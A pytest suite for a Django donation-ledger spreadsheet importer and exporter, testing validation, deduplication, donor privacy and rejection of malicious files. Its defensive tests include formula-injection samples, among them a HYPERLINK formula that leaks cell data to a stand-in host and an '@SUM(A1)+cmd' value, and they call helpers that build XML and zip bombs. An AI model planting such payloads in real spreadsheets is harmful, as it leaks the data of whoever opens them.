"""Ledger import: all rows or none, every error named, re-imports change nothing (items 1-5)."""

import datetime as dt
import io
from decimal import Decimal

import pytest

from django.core.management import CommandError, call_command

from home.ledger import services
from home.ledger.models import Donor, DonorPrivate, EntryKind, ImportBatch, ImportStatus, LedgerEntry
from tests.home import ledger_support as files

pytestmark = pytest.mark.django_db


def upload(data, user=None, dry_run=False, name="ledger.xlsx"):
    return services.import_ledger_file(files.as_file(data, name), name, user=user, dry_run=dry_run)


def test_a_valid_file_is_imported_with_exact_amounts_and_private_fields_apart(users):
    data = files.ledger_workbook(
        cash=[
            files.cash_row("XJ001", amount="1,000.00"),
            files.cash_row("XJ002", "2020/2/3", name=None, anonymous="是", amount="¥500"),
            files.cash_row("XJ003", "2020年2月3日", name="某公司", donor_type="单位", amount="５００元"),
        ],
        goods=[files.goods_row("WZ001", quantity="１,０００")],
        allocations=[
            files.allocation_row("BF001", amount="200"),
            files.allocation_row("BF002", quantity=400),
        ],
    )
    batch = upload(data, user=users["communications"])
    assert batch.status == ImportStatus.DONE, batch.errors
    assert (batch.cash_count, batch.goods_count, batch.allocation_count) == (3, 1, 2)
    assert batch.uploaded_by == users["communications"]
    assert len(batch.sha256) == 64
    amounts = dict(LedgerEntry.objects.filter(kind=EntryKind.CASH).values_list("number", "amount"))
    assert amounts == {"XJ001": Decimal("1000.00"), "XJ002": Decimal("500.00"), "XJ003": Decimal("500.00")}
    goods = LedgerEntry.objects.get(number="WZ001")
    assert (goods.quantity, goods.standard, goods.estimated_value) == (
        1000,
        "GB 19083-2010",
        Decimal("35000.00"),
    )
    assert goods.expiry_date == dt.date(2022, 1, 14)
    first = LedgerEntry.objects.get(number="XJ001")
    assert first.entry_date == dt.date(2020, 2, 3)
    assert first.donor.name == files.FIXTURE_NAME
    assert first.public_donor_name == "张**"
    assert first.donor.private.phone == files.FIXTURE_PHONE
    assert LedgerEntry.objects.get(number="XJ002").public_donor_name == "爱心人士"
    assert LedgerEntry.objects.get(number="XJ003").public_donor_name == "某公司"
    assert LedgerEntry.objects.filter(batch=batch).values("sheet", "row_number").distinct().count() == 6


def test_one_bad_row_stores_nothing_and_every_error_is_named():
    data = files.ledger_workbook(
        cash=[
            files.cash_row("XJ001"),
            files.cash_row("XJ002", amount="=SUM(F2:F3)"),
            files.cash_row("XJ003", amount="12.345"),
            files.cash_row("XJ004", amount="-5"),
            files.cash_row("XJ001", name="李四"),
            files.cash_row("XJ005", name=None),
            files.cash_row("XJ006", day="前天"),
        ],
        goods=[files.goods_row("WZ001", quantity="很多")],
        allocations=[files.allocation_row("BF001")],
    )
    batch = upload(data)
    assert batch.status == ImportStatus.FAILED
    assert LedgerEntry.objects.count() == 0
    assert Donor.objects.count() == 0
    found = {(e["sheet"], e["row"], e["column"]) for e in batch.errors}
    assert found == {
        ("现金捐赠", 3, "金额（元）"),
        ("现金捐赠", 4, "金额（元）"),
        ("现金捐赠", 5, "金额（元）"),
        ("现金捐赠", 6, "收据编号"),
        ("现金捐赠", 7, "捐赠人"),
        ("现金捐赠", 8, "收款日期"),
        ("物资捐赠", 2, "数量"),
        ("分配拨付", 2, "现金金额（元）"),
    }
    reasons = {(e["row"], e["column"]): e["reason"] for e in batch.errors if e["sheet"] == "现金捐赠"}
    assert "公式" in reasons[(3, "金额（元）")]
    assert "重复" in reasons[(6, "收据编号")]
    # Reasons never quote the private cell values.
    assert files.FIXTURE_PHONE not in str(batch.errors)


def test_dry_run_validates_without_writing():
    batch = upload(files.ledger_workbook(cash=[files.cash_row()]), dry_run=True)
    assert batch.status == ImportStatus.DONE
    assert "未写入" in batch.message
    assert LedgerEntry.objects.count() == 0


def test_reuploading_the_same_file_is_refused_as_already_imported():
    data = files.ledger_workbook(cash=[files.cash_row()])
    first = upload(data)
    second = upload(data)
    assert first.status == ImportStatus.DONE
    assert second.status == ImportStatus.FAILED
    assert "已导入" in second.message
    assert LedgerEntry.objects.count() == 1
    assert ImportBatch.objects.count() == 2


def test_a_new_file_repeating_rows_skips_identical_ones_and_refuses_changed_ones():
    upload(files.ledger_workbook(cash=[files.cash_row("XJ001"), files.cash_row("XJ002")]))
    again = upload(files.ledger_workbook(cash=[files.cash_row("XJ001"), files.cash_row("XJ003")]))
    assert again.status == ImportStatus.DONE
    assert (again.cash_count, again.skipped_count) == (1, 1)
    changed = upload(files.ledger_workbook(cash=[files.cash_row("XJ002", amount="999")]))
    assert changed.status == ImportStatus.FAILED
    assert "内容不同" in changed.errors[0]["reason"]
    assert LedgerEntry.objects.count() == 3


def test_allocation_beyond_stock_is_refused_with_the_item_named():
    data = files.ledger_workbook(
        goods=[files.goods_row("WZ001", quantity=100)],
        allocations=[files.allocation_row("BF001", quantity=150)],
    )
    batch = upload(data)
    assert batch.status == ImportStatus.FAILED
    assert batch.errors[0]["sheet"] == "分配拨付"
    assert "库存不足" in batch.errors[0]["reason"] and "-50" in batch.errors[0]["reason"]
    assert LedgerEntry.objects.count() == 0


@pytest.mark.parametrize(
    ("data", "words"),
    [
        (files.xml_bomb(), "文件内容无效"),
        (files.zip_bomb(), "压缩"),
        (files.sparse_sheet(), "超过最大行数/列数"),
        (files.ole2_file(), ".xls"),
        (files.html_file(), "网页"),
        (files.truncated_zip(), "损坏"),
        (files.without_content_types(), "[Content_Types].xml"),
        (b"\x01\x02 not a spreadsheet" * 20, "不是有效的 Excel"),
    ],
    ids=["xml-bomb", "zip-bomb", "sparse", "ole2", "html", "truncated", "no-content-types", "random"],
)
def test_malicious_or_malformed_files_fail_clearly_with_nothing_stored(data, words):
    batch = upload(data)
    assert batch.status == ImportStatus.FAILED
    assert words in batch.message
    assert batch.stored_count == 0
    assert LedgerEntry.objects.count() == 0


def test_wrong_header_and_empty_workbook_are_row_errors_not_tracebacks():
    wrong = files.ledger_workbook(extra_sheets=None)
    batch = upload(
        files.replace_member(wrong, "xl/worksheets/sheet1.xml", _sheet_with_headers(["编号", "钱"]))
    )
    assert batch.status == ImportStatus.FAILED
    assert any("缺少列" in error["reason"] for error in batch.errors)
    empty = upload(files.empty_workbook())
    assert empty.status == ImportStatus.FAILED
    assert any("缺少工作表" in error["reason"] for error in empty.errors)


def _sheet_with_headers(headers):
    cells = "".join(
        f'<c r="{chr(65 + i)}1" t="inlineStr"><is><t>{header}</t></is></c>'
        for i, header in enumerate(headers)
    )
    return (
        '<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        f'<sheetData><row r="1">{cells}</row></sheetData></worksheet>'
    )


def test_import_command_prints_the_report_and_exits_non_zero(tmp_path):
    bad = tmp_path / "bad.xlsx"
    bad.write_bytes(files.ledger_workbook(cash=[files.cash_row(amount="abc")]))
    err = io.StringIO()
    with pytest.raises(CommandError):
        call_command("import_ledger", str(bad), stderr=err)
    assert "工作表 现金捐赠 第 2 行 金额（元）" in err.getvalue()
    good = tmp_path / "good.xlsx"
    good.write_bytes(files.ledger_workbook(cash=[files.cash_row()]))
    call_command("import_ledger", str(good), "--dry-run", stdout=io.StringIO())
    assert LedgerEntry.objects.count() == 0
    out = io.StringIO()
    call_command("import_ledger", str(good), stdout=out)
    assert LedgerEntry.objects.count() == 1
    assert DonorPrivate.objects.get().id_number == files.FIXTURE_ID


def test_template_command_writes_the_three_sheets_and_notes(tmp_path):
    import openpyxl

    target = tmp_path / "template.xlsx"
    call_command("ledger_template", "-o", str(target), stdout=io.StringIO())
    workbook = openpyxl.load_workbook(target)
    assert workbook.sheetnames == ["现金捐赠", "物资捐赠", "分配拨付", "填写说明"]
    assert workbook["现金捐赠"]["A1"].value == "收据编号"
    assert workbook["现金捐赠"].freeze_panes == "A2"


def test_large_files_are_queued_as_a_task_with_only_the_batch_id(
    settings, django_capture_on_commit_callbacks, task_queue
):
    settings.LEDGER_ASYNC_IMPORT_THRESHOLD = 10
    with django_capture_on_commit_callbacks(execute=True):
        batch = upload(files.big_cash_workbook(30))
    assert batch.status == ImportStatus.PENDING
    [queued] = task_queue.tasks()
    assert queued["func"] == "home.ledger.tasks.import_batch"
    assert queued["args"] == (batch.pk,)
    from home.ledger.tasks import import_batch

    assert import_batch(batch.pk) == {"batch": batch.pk, "status": ImportStatus.DONE}
    assert LedgerEntry.objects.count() == 30
    # A redelivery of a finished batch does nothing.
    assert import_batch(batch.pk)["status"] == ImportStatus.DONE
    assert LedgerEntry.objects.count() == 30


def test_cash_rows_are_linked_to_the_official_channel_they_name():
    from tests.home.factories import DonationChannelFactory

    channel = DonationChannelFactory(name="市慈善总会银行账户")
    batch = upload(
        files.ledger_workbook(
            cash=[
                files.cash_row("XJ001", channel="市慈善总会银行账户"),
                files.cash_row("XJ002", channel="现场"),
            ]
        )
    )
    assert batch.status == ImportStatus.DONE
    assert LedgerEntry.objects.get(number="XJ001").channel == channel
    assert LedgerEntry.objects.get(number="XJ002").channel is None


def test_a_task_over_a_malformed_file_fails_once_and_is_not_retried():
    from home.ledger.tasks import import_batch

    batch = services.store_upload(files.as_file(files.ole2_file()), "old.xls")
    assert import_batch(batch.pk) == {"batch": batch.pk, "status": ImportStatus.FAILED}
    assert import_batch(batch.pk) == {"batch": batch.pk, "status": ImportStatus.FAILED}
    batch.refresh_from_db()
    assert batch.attempts == 1
    assert ".xls" in batch.message


def test_export_command_writes_the_staff_ledger_for_a_date_range(tmp_path):
    import openpyxl

    upload(
        files.ledger_workbook(
            cash=[
                files.cash_row("XJ001", "2020-02-03"),
                files.cash_row("XJ002", "2020-02-05", name="@SUM(A1)+cmd"),
            ]
        )
    )
    target = tmp_path / "ledger.xlsx"
    call_command("export_ledger", "-o", str(target), "--from", "2020-02-04", stdout=io.StringIO())
    sheet = openpyxl.load_workbook(target).active
    rows = list(sheet.iter_rows(min_row=2, values_only=True))
    assert [row[0] for row in rows] == ["XJ002"]
    assert rows[0][3] == "@SUM(A1)+cmd"
    assert sheet["D2"].data_type == "s"
    assert rows[0][6] == 1000 and rows[0][24] == files.FIXTURE_PHONE
    with pytest.raises(CommandError):
        call_command("export_ledger", "-o", str(target), "--from", "yesterday")


ROUND_TRIP_TEXTS = ['=HYPERLINK("http://x/?"&A2)', "+1+2", "-2+3", "@SUM(A1)", "=1"]


def _safe_cash_workbook(rows):
    """A cash workbook written by the toolkit's safe writer (text cells, never formulas)."""
    from home.ledger.importers import ALLOCATION_SHEET, CASH_SHEET, GOODS_SHEET
    from home.spreadsheets import OutColumn, OutSheet, write_workbook

    headers = CASH_SHEET.headers()
    sheets = [
        OutSheet(
            CASH_SHEET.name, [OutColumn(h) for h in headers], [[r.get(h) for h in headers] for r in rows]
        )
    ]
    for spec in (GOODS_SHEET, ALLOCATION_SHEET):
        sheets.append(OutSheet(spec.name, [OutColumn(h) for h in spec.headers()], []))
    buffer = io.BytesIO()
    write_workbook(buffer, sheets)
    return buffer.getvalue()


def test_text_starting_like_a_formula_survives_import_export_and_reimport_unchanged():
    import zipfile

    import openpyxl

    from home.ledger.exporters import write_staff_export

    rows = [
        files.cash_row(f"XJ00{i}", name=text, note=text, phone="", id_number="")
        for i, text in enumerate(ROUND_TRIP_TEXTS, start=1)
    ]
    batch = upload(_safe_cash_workbook(rows))
    assert batch.status == ImportStatus.DONE, batch.errors
    for i, text in enumerate(ROUND_TRIP_TEXTS, start=1):
        entry = LedgerEntry.objects.get(number=f"XJ00{i}")
        assert (entry.donor.name, entry.donor.private.note) == (text, text)

    exported = io.BytesIO()
    write_staff_export(exported)
    archive = zipfile.ZipFile(io.BytesIO(exported.getvalue()))
    assert all(
        "<f>" not in archive.read(name).decode() for name in archive.namelist() if name.endswith(".xml")
    )
    sheet = openpyxl.load_workbook(io.BytesIO(exported.getvalue())).active
    header = [cell.value for cell in sheet[1]]
    name_col, note_col = header.index("捐赠人"), header.index("备注")
    exported_rows = list(sheet.iter_rows(min_row=2))
    assert all(row[name_col].data_type == "s" and row[note_col].data_type == "s" for row in exported_rows)

    # Re-import the exported rows (the export's columns mapped onto the import template).
    again = [
        files.cash_row(
            "R" + row[0].value,
            name=row[name_col].value,
            note=row[note_col].value,
            amount=row[header.index("金额（元）")].value,
            phone="",
            id_number="",
        )
        for row in exported_rows
    ]
    batch = upload(_safe_cash_workbook(again), name="again.xlsx")
    assert batch.status == ImportStatus.DONE, batch.errors
    stored = {
        entry.number: (entry.donor.name, entry.donor.private.note, entry.amount)
        for entry in LedgerEntry.objects.filter(number__startswith="R").select_related("donor__private")
    }
    assert stored == {
        f"RXJ00{i}": (text, text, Decimal("1000.00")) for i, text in enumerate(ROUND_TRIP_TEXTS, start=1)
    }


def test_a_real_formula_cell_is_refused_in_text_and_amount_columns_alike():
    data = files.ledger_workbook(
        cash=[files.cash_row("XJ001", name='=HYPERLINK("http://x/?"&A2)', amount="=SUM(F2:F3)")]
    )
    batch = upload(data)
    assert batch.status == ImportStatus.FAILED
    reasons = {(error["row"], error["column"]): error["reason"] for error in batch.errors}
    assert reasons[(2, "捐赠人")] == "不接受公式，请填写文字"
    assert reasons[(2, "金额（元）")] == "不接受公式，请填写数值"
    assert not LedgerEntry.objects.exists()
